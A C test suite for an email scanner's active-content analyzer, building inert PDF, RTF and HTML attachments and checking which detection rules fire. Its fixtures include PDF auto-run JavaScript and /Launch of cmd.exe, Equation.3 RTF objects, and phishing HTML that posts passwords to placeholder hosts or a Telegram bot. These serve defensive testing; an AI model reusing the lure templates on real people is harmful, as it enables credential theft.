/*
 * test_active.c - end-to-end tests of the active-content analyzer
 * (active.c): each case is one inert attachment (a small PDF, RTF or HTML
 * text written here, base64-encoded into a MIME message) scanned with
 * tu_scan, and states the symbol that must fire and one that must not.
 * Positives use the shapes of real lures (/OpenAction JavaScript, /Launch,
 * #xx-escaped names, Equation.3 objects, password forms posting to
 * 192.0.2.x); negatives are the business look-alikes (a PDF with web
 * links, an RTF without objects, an HTML newsletter, a search form, an HTML
 * mail body with a form).  Nothing here runs anything.
 */
#include <glib.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "testutil.h"

typedef struct acase {
	const char *name;
	const char *type;     /* declared Content-Type */
	const char *filename; /* NULL: an inline body part, not an attachment */
	const char *body;
	const char *want;     /* symbol that must fire, or NULL */
	const char *want_not; /* symbol that must not fire, or NULL */
	const char *detail;   /* substring of WANT's detail, or NULL */
} acase_t;

#define PDF_HEAD "%PDF-1.4\n"
#define PDF_TAIL "trailer\n<< /Root 1 0 R >>\n%%EOF\n"
#define PDF_PAGES                                                          \
	"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"      \
	"3 0 obj\n<< /Type /Page /Parent 2 0 R >>\nendobj\n"
#define RTF_HEAD "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times New Roman;}}\r\n"
/* OLE1 header of class Equation.3 (version, format, class name), in hex. */
#define OLE1_EQ3                                                           \
	"01050000020000000b000000"                                         \
	"4571756174696f6e2e3300"                                           \
	"0000000000000000100000000000000000000000000000000000000000"
#define HTML_HEAD "<!DOCTYPE html>\r\n<html><head><meta charset=\"utf-8\">"

static const acase_t cases[] = {
	/* ---- PDF ---- */
	{"pdf openaction js", "application/pdf", "seikyu.pdf",
	 PDF_HEAD "1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R "
	 ">>\nendobj\n" PDF_PAGES
	 "4 0 obj\n<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\);) "
	 ">>\nendobj\n" PDF_TAIL,
	 "ACTIVE_PDF_AUTO_JAVASCRIPT", "ACTIVE_PDF_JAVASCRIPT", "/OpenAction"},
	{"pdf js in names tree", "application/pdf", "form.pdf",
	 PDF_HEAD "1 0 obj\n<< /Type /Catalog /Names << /JavaScript 5 0 R >> "
	 ">>\nendobj\n" PDF_PAGES PDF_TAIL,
	 "ACTIVE_PDF_JAVASCRIPT", "ACTIVE_PDF_AUTO_JAVASCRIPT", NULL},
	{"pdf aa js", "application/pdf", "a.pdf",
	 PDF_HEAD "3 0 obj\n<< /Type /Page /AA << /O << /S /JS /JS (x) >> >> "
	 ">>\nendobj\n" PDF_TAIL,
	 "ACTIVE_PDF_AUTO_JAVASCRIPT", NULL, "/AA"},
	{"pdf hex-escaped names", "application/octet-stream", "invoice.pdf",
	 PDF_HEAD "1 0 obj\n<< /Type /Catalog /O#70enAction 4 0 R >>\nendobj\n"
	 "4 0 obj\n<< /S /J#61va#53cript /JS (x) >>\nendobj\n" PDF_TAIL,
	 "ACTIVE_PDF_NAME_OBFUSCATED", NULL, "written with #xx"},
	{"pdf hex-escaped names also auto js", "application/pdf", "b.pdf",
	 PDF_HEAD "1 0 obj\n<< /O#70enAction 4 0 R >>\nendobj\n"
	 "4 0 obj\n<< /S /J#61vaScript /JS (x) >>\nendobj\n" PDF_TAIL,
	 "ACTIVE_PDF_AUTO_JAVASCRIPT", NULL, NULL},
	{"pdf launch", "application/pdf", "scan.pdf",
	 PDF_HEAD "1 0 obj\n<< /Type /Catalog /OpenAction << /S /Launch "
	 "/Win << /F (cmd.exe) /P (/c echo test) >> >> >>\nendobj\n" PDF_TAIL,
	 "ACTIVE_PDF_LAUNCH", "ACTIVE_PDF_JAVASCRIPT", "/Launch"},
	{"pdf embedded file", "application/pdf", "c.pdf",
	 PDF_HEAD "1 0 obj\n<< /Type /Catalog /Names << /EmbeddedFiles 6 0 R "
	 ">> >>\nendobj\n6 0 obj\n<< /Type /EmbeddedFile /Length 4 >>\n"
	 "stream\ntest\nendstream\nendobj\n" PDF_TAIL,
	 "ACTIVE_PDF_EMBEDDED_FILE", NULL, NULL},
	{"pdf junk before header", "application/pdf", "d.pdf",
	 "junk junk junk\n" PDF_HEAD "1 0 obj\n<< /S /Launch >>\nendobj\n",
	 "ACTIVE_PDF_LAUNCH", NULL, NULL},
	{"pdf uri file scheme", "application/pdf", "e.pdf",
	 PDF_HEAD "4 0 obj\n<< /S /URI /URI (file://server.invalid/x.exe) "
	 ">>\nendobj\n" PDF_TAIL,
	 "ACTIVE_PDF_URI_SUSPICIOUS", NULL, "file:"},
	{"pdf uri ip host", "application/pdf", "f.pdf",
	 PDF_HEAD "4 0 obj\n<< /S /URI /URI (http://192.0.2.7/x) >>\nendobj\n"
	 PDF_TAIL,
	 "ACTIVE_PDF_URI_SUSPICIOUS", NULL, "192.0.2.7"},
	{"pdf with web links only", "application/pdf", "catalog.pdf",
	 PDF_HEAD "1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
	 PDF_PAGES "4 0 obj\n<< /S /URI /URI (https://www.example.test/) >>"
	 "\nendobj\n5 0 obj\n<< /S /URI /URI (mailto:info@example.test) >>"
	 "\nendobj\n" PDF_TAIL,
	 NULL, "attach.active_content", NULL},
	{"pdf names inside a content stream are text", "application/pdf",
	 "g.pdf",
	 PDF_HEAD "4 0 obj\n<< /Length 30 >>\nstream\nBT (/JavaScript /Launch) "
	 "Tj ET\nendstream\nendobj\n" PDF_TAIL,
	 NULL, "attach.active_content", NULL},
	/* ---- RTF ---- */
	{"rtf equation objclass", "application/rtf", "chumon.doc",
	 RTF_HEAD "{\\object\\objemb{\\*\\objclass Equation.3}\\objw380"
	 "{\\*\\objdata " OLE1_EQ3 "}}\r\n}\r\n",
	 "ACTIVE_RTF_EQUATION", "ACTIVE_RTF_OBJECT", "Equation"},
	{"rtf equation in objdata only, split hex", "application/msword",
	 "order.doc",
	 RTF_HEAD "{\\object\\objupdate{\\*\\objdata 0105000002000000\r\n"
	 "0b000000 4571{\\*\\junk 41}7561\r\n74696f6e2e3300 0000}}\r\n}\r\n",
	 "ACTIVE_RTF_EQUATION", NULL, "objupdate"},
	{"rtf control words split by line breaks", "text/rtf", "h.rtf",
	 RTF_HEAD "{\\obj\r\nect\\objemb{\\*\\obj\nclass Equ\nation.3}"
	 "{\\*\\obj\r\ndata 00}}}\r\n",
	 "ACTIVE_RTF_EQUATION", NULL, NULL},
	{"rtf equation clsid", "application/rtf", "i.rtf",
	 RTF_HEAD "{\\object{\\*\\objdata d0cf11e0a1b11ae1"
	 "02ce020000000000c000000000000046}}}\r\n",
	 "ACTIVE_RTF_EQUATION", NULL, NULL},
	{"rtf package object", "application/rtf", "j.rtf",
	 RTF_HEAD "{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata "
	 "0105000002000000}}}\r\n",
	 "ACTIVE_RTF_OBJECT", "ACTIVE_RTF_EQUATION", "Package"},
	{"rtf without objects", "application/rtf", "memo.rtf",
	 RTF_HEAD "\\pard object data Equation.3 test\\par\r\n}\r\n", NULL,
	 "attach.active_content", NULL},
	/* ---- HTML ---- */
	{"html password form", "text/html", "Microsoft365.html",
	 HTML_HEAD "<title>sign in</title></head><body>\r\n"
	 "<form method=\"post\" action=\"http://192.0.2.10/owa/login.php\">"
	 "<input type=\"email\" name=\"login\">\r\n"
	 "<input type=\"password\" name=\"passwd\"><input type=submit>"
	 "</form></body></html>\r\n",
	 "ACTIVE_HTML_CREDENTIAL_FORM", NULL, "192.0.2.10"},
	{"html password type unquoted upper case", "application/octet-stream",
	 "login.htm",
	 "<HTML><BODY><FORM ACTION=x.php><INPUT TYPE=PASSWORD NAME=p></FORM>"
	 "</BODY></HTML>",
	 "ACTIVE_HTML_CREDENTIAL_FORM", NULL, "password field"},
	{"html login form posting out", "text/html", "k.html",
	 HTML_HEAD "</head><body><form action='https://portal.example.invalid/"
	 "auth' method=post><input type=text name=user_mail></form>"
	 "</body></html>",
	 "ACTIVE_HTML_CREDENTIAL_FORM", NULL, "portal.example.invalid"},
	{"html fetch posts credentials", "text/html", "l.html",
	 HTML_HEAD "</head><body><input id=e type=email><input id=p>"
	 "<script>function go(){fetch('https://collect.example.invalid/p',"
	 "{method:'POST',body:'email='+e.value+'&password='+p.value});}"
	 "</script></body></html>",
	 "ACTIVE_HTML_SCRIPT_POST", NULL, "fetch"},
	{"html telegram exfiltration", "text/html", "m.html",
	 HTML_HEAD "<script>var x=new XMLHttpRequest();x.open('GET','https://"
	 "api.telegram.org/bot000:TEST/sendMessage?text='+email+pwd);"
	 "x.send();</script>",
	 "ACTIVE_HTML_SCRIPT_POST", NULL, "Telegram"},
	{"html meta refresh", "text/html", "n.html",
	 HTML_HEAD "<meta http-equiv=\"refresh\" content=\"0; "
	 "url=https://www.example.invalid/\"></head></html>",
	 "ACTIVE_HTML_REDIRECT", NULL, NULL},
	{"html newsletter", "text/html", "news.html",
	 HTML_HEAD "<title>news</title></head><body><h1>April news</h1>"
	 "<p>Read more on <a href=\"https://www.example.test/news\">our site"
	 "</a>.</p><img src=\"https://www.example.test/logo.png\" alt=logo>"
	 "<p>Contact: info@example.test</p></body></html>",
	 NULL, "attach.active_content", NULL},
	{"html search form", "text/html", "search.html",
	 HTML_HEAD "</head><body><form action=\"https://www.example.test/s\" "
	 "method=get><input type=text name=q><input type=submit></form>"
	 "</body></html>",
	 NULL, "attach.active_content", NULL},
	{"html mail body with a form is not an attachment", "text/html", NULL,
	 HTML_HEAD "</head><body><form action=\"http://192.0.2.10/\">"
	 "<input type=password name=p></form></body></html>",
	 NULL, "attach.active_content", NULL},
};

/* A message whose second part is BODY (base64) typed TYPE, an attachment
 * named FILENAME, or an inline body part when FILENAME is NULL. */
static char *
make_message(const char *type, const char *filename, const void *body,
             size_t len)
{
	gchar *b64 = g_base64_encode(body, len);
	char disp[256] = "";
	char *msg;

	if (filename != NULL)
		snprintf(disp, sizeof(disp),
		         "Content-Disposition: attachment; filename=\"%s\"\n",
		         filename);
	msg = g_strdup_printf(
	    "From: sato@partner.example.test\nTo: yamada@example-corp.test\n"
	    "Subject: test\nMessage-ID: <active@example.test>\n"
	    "MIME-Version: 1.0\n"
	    "Content-Type: multipart/mixed; boundary=\"B\"\n\n"
	    "--B\nContent-Type: text/plain; charset=utf-8\n\nsee attached\n"
	    "--B\nContent-Type: %s\n%sContent-Transfer-Encoding: base64\n\n"
	    "%s\n--B--\n",
	    type, disp, b64);
	g_free(b64);
	return msg;
}

START_TEST(test_active_table)
{
	const acase_t *c = &cases[_i];
	char *msg = make_message(c->type, c->filename, c->body,
	                         strlen(c->body));
	emg_report_t *r = tu_scan(NULL, msg, NULL);
	const emg_finding_t *f;

	ck_assert_ptr_nonnull(r);
	if (c->want != NULL) {
		f = tu_finding(r, c->want);
		ck_assert_msg(f != NULL, "%s: %s missing (got %s)", c->name,
		              c->want, tu_symbols(r));
		ck_assert_str_eq(f->category, "attach.active_content");
		if (c->detail != NULL)
			ck_assert_msg(strstr(f->detail, c->detail) != NULL,
			              "%s: detail '%s' lacks '%s'", c->name,
			              f->detail, c->detail);
		if (c->filename != NULL)
			ck_assert_msg(strstr(f->detail, c->filename) != NULL,
			              "%s: detail '%s' does not name the file",
			              c->name, f->detail);
	}
	if (c->want_not != NULL)
		ck_assert_msg(tu_finding(r, c->want_not) == NULL, "%s: %s fired (%s)",
		              c->name, c->want_not, tu_symbols(r));
	emg_report_free(r);
	g_free(msg);
}
END_TEST

/* A zlib stream of DATA in one stored deflate block (no compression
 * needed to exercise the inflater).  Returns its length in OUT. */
static size_t
zlib_stored(const char *data, uint8_t *out, size_t cap)
{
	size_t n = strlen(data), k = 0;
	uint32_t a = 1, b = 0;

	ck_assert_uint_le(n + 11, cap);
	ck_assert_uint_lt(n, 65536);
	out[k++] = 0x78;
	out[k++] = 0x01;
	out[k++] = 0x01; /* BFINAL, stored */
	out[k++] = (uint8_t)(n & 0xff);
	out[k++] = (uint8_t)(n >> 8);
	out[k++] = (uint8_t)(~n & 0xff);
	out[k++] = (uint8_t)((~n >> 8) & 0xff);
	for (size_t i = 0; i < n; i++) {
		out[k++] = (uint8_t)data[i];
		a = (a + (uint8_t)data[i]) % 65521u;
		b = (b + a) % 65521u;
	}
	out[k++] = (uint8_t)(b >> 8);
	out[k++] = (uint8_t)b;
	out[k++] = (uint8_t)(a >> 8);
	out[k++] = (uint8_t)a;
	return k;
}

/* JavaScript and /Launch only inside a FlateDecode object stream, the
 * stream's /Type also hidden with #xx: found once inflated. */
START_TEST(test_active_pdf_object_stream)
{
	static const char objs[] = "4 0 5 40 << /S /JavaScript /JS (x) >> "
	                           "<< /S /Launch /F (cmd.exe) >>";
	uint8_t z[256], pdf[1024];
	size_t zn = zlib_stored(objs, z, sizeof(z)), n;
	char *msg;
	emg_report_t *r;

	n = (size_t)snprintf((char *)pdf, sizeof(pdf),
	                     "%s1 0 obj\n<< /OpenAction 4 0 R >>\nendobj\n"
	                     "7 0 obj\n<< /Type /Obj#53tm /N 2 /First 9 "
	                     "/Filter /FlateDecode /Length %zu >>\nstream\r\n",
	                     PDF_HEAD, zn);
	ck_assert_uint_lt(n + zn + 64, sizeof(pdf));
	memcpy(pdf + n, z, zn);
	n += zn;
	n += (size_t)snprintf((char *)pdf + n, sizeof(pdf) - n,
	                      "\r\nendstream\nendobj\n%s", PDF_TAIL);
	msg = make_message("application/pdf", "objstm.pdf", pdf, n);
	r = tu_scan(NULL, msg, NULL);
	ck_assert_ptr_nonnull(r);
	ck_assert_msg(emg_report_has(r, "ACTIVE_PDF_AUTO_JAVASCRIPT"), "%s",
	              tu_symbols(r));
	ck_assert_msg(emg_report_has(r, "ACTIVE_PDF_LAUNCH"), "%s",
	              tu_symbols(r));
	emg_report_free(r);
	g_free(msg);

	/* The same stream without /ObjStm is page content: not looked in. */
	memcpy(strstr((char *)pdf, "/Obj#53tm"), "/XObject ", 9);
	msg = make_message("application/pdf", "content.pdf", pdf, n);
	r = tu_scan(NULL, msg, NULL);
	ck_assert_msg(!emg_report_has(r, "ACTIVE_PDF_LAUNCH"), "%s",
	              tu_symbols(r));
	emg_report_free(r);
	g_free(msg);
}
END_TEST

/* The attack itself scores high; a PDF with JavaScript alone does not tag
 * on its own (forms use it). */
START_TEST(test_active_scores)
{
	static const struct {
		size_t i;
		double min, max;
	} s[] = {{0, 5.0, 7.0}, {1, 2.0, 4.99}, {5, 8.0, 20.0},
	         {12, 8.0, 20.0}, {18, 5.0, 9.0}};

	for (size_t k = 0; k < sizeof(s) / sizeof(s[0]); k++) {
		const acase_t *c = &cases[s[k].i];
		char *msg = make_message(c->type, c->filename, c->body,
		                         strlen(c->body));
		emg_report_t *r = tu_scan(NULL, msg, NULL);
		const emg_finding_t *f = tu_finding(r, c->want);

		ck_assert_msg(f != NULL, "%s: %s", c->name, tu_symbols(r));
		ck_assert_msg(f->score >= s[k].min && f->score <= s[k].max,
		              "%s: score %.1f", c->name, f->score);
		emg_report_free(r);
		g_free(msg);
	}
}
END_TEST

int
main(void)
{
	Suite *s = suite_create("active");
	TCase *tc = tcase_create("core");

	tcase_add_loop_test(tc, test_active_table, 0,
	                    (int)(sizeof(cases) / sizeof(cases[0])));
	tcase_add_test(tc, test_active_pdf_object_stream);
	tcase_add_test(tc, test_active_scores);
	suite_add_tcase(s, tc);
	return tu_run_suite(s);
}
